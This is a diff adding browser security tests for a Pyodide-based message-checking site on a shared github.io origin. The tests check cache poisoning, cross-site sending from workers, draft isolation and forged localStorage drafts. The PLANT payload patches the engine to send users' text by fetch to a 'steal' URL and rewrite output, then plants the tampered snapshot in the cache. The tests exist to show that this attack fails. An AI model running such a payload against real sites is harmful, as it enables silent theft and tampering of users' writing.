@@ -1,0 +1,149 @@
+"""On user.github.io/cordial/, other people's pages have the same origin, and the host sends no policy as a header."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import expect
+
+from tools.browsers.driver import Checker, natively
+
+BAD = "Dear Sir or Madam, I'd like to add you to my professional network."
+
+
+@pytest.fixture
+def origin(plain_host, serve) -> Iterator[str]:
+    """The URL of an origin with our site in cordial/, and with other pages wherever a test puts them."""
+    with serve(plain_host) as url:
+        yield url
+
+
+@pytest.fixture
+def beside(page, origin):
+    """`beside()` opens a page of the same origin that isn't ours."""
+    page.route(
+        "**/evil/", lambda route: route.fulfill(body="<!doctype html><title>x</title>", content_type="text/html")
+    )
+
+    def open_() -> None:
+        page.goto(f"{origin}evil/")
+
+    return open_
+
+
+# Starts the engine of the copy of our site at the root, changes what it does, and keeps that for the site in cordial/.
+PLANT = """async (thief) => {
+  const { boot } = await import("/assets/engine/load-pyodide.js");
+  const { packPages } = await import("/assets/engine/zero-pages.js");
+  const runtime = new URL("/assets/runtime/runtime.json", location).href;
+  const config = await (await fetch(runtime)).json();
+  let memory = null;
+  await boot(runtime, () => {}, { onMemory: () => {}, enter: (python) => {
+    python.runPython(`
+import checkers.browser as browser
+ours = browser.handle
+def handle(request):
+    import js
+    js.fetch("${thief}?" + js.encodeURIComponent(request))
+    return ours(request).replace("professional", "PWNED")
+browser.handle = handle
+`);
+    memory = python.makeMemorySnapshot();
+    return () => "";
+  }});
+  const base = new URL(`/cordial/assets/runtime/${config.base}`, location);
+  for (const name of [...(await caches.keys()), "cordial-engine"])
+    await (await caches.open(name)).put(new URL(`memory-${config.hash}`, base).href, new Response(packPages(memory)));
+  return memory.length;
+}"""
+
+
+def test_a_page_beside_ours_cannot_replace_the_engine(
+    beside, plain_host, site_dir, page, origin, site_url, requests_log
+):
+    (plain_host / "assets").symlink_to(site_dir / "assets")
+    try:
+        beside()
+        assert page.evaluate(PLANT, f"{site_url}steal") > 5_000_000
+    finally:
+        (plain_host / "assets").unlink()
+    page.goto(f"{origin}cordial/guide/invite-stranger/")
+    checker = Checker(page).ready()
+    for text in (BAD, f"{BAD} Bye."):
+        checker.check(text)
+        assert checker.messages() == [finding.message for finding in natively(text).findings]
+    assert not [request.url for request in requests_log if "steal" in request.url]
+
+
+def test_no_engine_is_kept_where_others_could_change_it(page, origin, at_root):
+    names = "caches.keys().then(names => names.filter(name => name.startsWith('cordial-engine')))"
+    page.goto(f"{at_root}guide/invite-stranger/")
+    Checker(page).ready().check(BAD)
+    for _ in range(100):
+        if page.evaluate(names):
+            break
+        page.wait_for_timeout(100)
+    assert page.evaluate(names) == ["cordial-engine"], "where we're alone, one is kept, in less time than the next wait"
+    page.goto(f"{origin}cordial/guide/invite-stranger/")
+    Checker(page).ready().check(BAD)
+    page.wait_for_timeout(10_000)
+    assert page.evaluate(names) == []
+
+
+@pytest.mark.chromium_only("Playwright reaches into no worker of Firefox")
+def test_a_worker_can_send_nothing_to_another_site(page, origin, site_url, requests_log):
+    page.goto(f"{origin}cordial/guide/invite-stranger/")
+    checker = Checker(page).ready()
+    (worker,) = checker.workers()
+    send = "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')"
+    assert worker.evaluate(send, f"{origin}cordial/sitemap.xml") == "sent"
+    assert worker.evaluate(send, f"{site_url}sitemap.xml") == "refused"
+    assert not [request.url for request in requests_log if request.url.startswith(site_url)]
+
+
+def test_two_copies_keep_drafts_apart(plain_host, site_dir, page, origin):
+    (plain_host / "preview").symlink_to(plain_host / "cordial")
+    try:
+        page.goto(f"{origin}cordial/check/")
+        first = Checker(page)
+        first.write(BAD)
+        keep = first.root.get_by_label("Keep my text on this device")
+        keep.check()
+        page.goto(f"{origin}preview/check/")
+        other = Checker(page)
+        expect(other.root.get_by_label("Keep my text on this device")).not_to_be_checked()
+        expect(other.area).to_have_value("")
+        other.write("Hi Ana,")
+        other.root.get_by_label("Keep my text on this device").check()
+        other.root.get_by_label("Keep my text on this device").uncheck()
+        page.goto(f"{origin}cordial/check/")
+        expect(Checker(page).area).to_have_value(BAD)
+    finally:
+        (plain_host / "preview").unlink()
+
+
+FORGED = {
+    "no answers": {"text": BAD, "situation": "decline", "values": None},
+    "wrong types": {"text": BAD, "situation": ["decline"], "values": {"account": {"toString": 1}}},
+    "a prototype": {"text": BAD, "__proto__": {"x": 1}, "values": {"__proto__": {"x": 1}}},
+}
+
+
+@pytest.mark.parametrize("forged", FORGED.values(), ids=FORGED)
+def test_a_kept_draft_that_another_page_wrote_is_read_as_a_text_only(beside, page, origin, forged):
+    beside()
+    draft = json.dumps(forged)
+    page.evaluate(
+        "draft => { localStorage['cordial-keep /cordial/'] = 'yes';"
+        " localStorage['cordial-draft /cordial/ /cordial/guide/invite-stranger/ 0'] = draft; }",
+        draft,
+    )
+    errors = []
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    page.goto(f"{origin}cordial/guide/invite-stranger/")
+    checker = Checker(page)
+    expect(checker.area).to_have_value(BAD)
+    assert checker.ready().settled()["verdict"] == "revise"
+    assert errors == [] and page.evaluate("({}).x") is None
